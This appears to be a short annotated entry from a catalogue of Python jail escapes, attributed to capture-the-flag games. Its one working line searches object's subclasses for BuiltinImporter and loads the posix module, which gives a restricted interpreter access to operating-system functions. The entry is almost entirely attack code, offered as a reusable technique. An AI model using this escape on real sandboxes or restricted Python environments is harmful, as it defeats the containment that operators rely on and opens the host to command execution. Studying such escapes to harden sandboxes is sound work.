# aim: import a module by the class that imports those that are built in
# mechanism: BuiltinImporter found among the subclasses of object
# source: a classic of Python jails in capture-the-flag games
# language: check
# reason: __subclasses__: hands out every class of the process
# jail: process
# plain: loot
# python: 3.14 and older
importer = [each for each in ().__class__.__base__.__subclasses__() if each.__name__ == "BuiltinImporter"][0]
loot(importer.load_module("posix"))
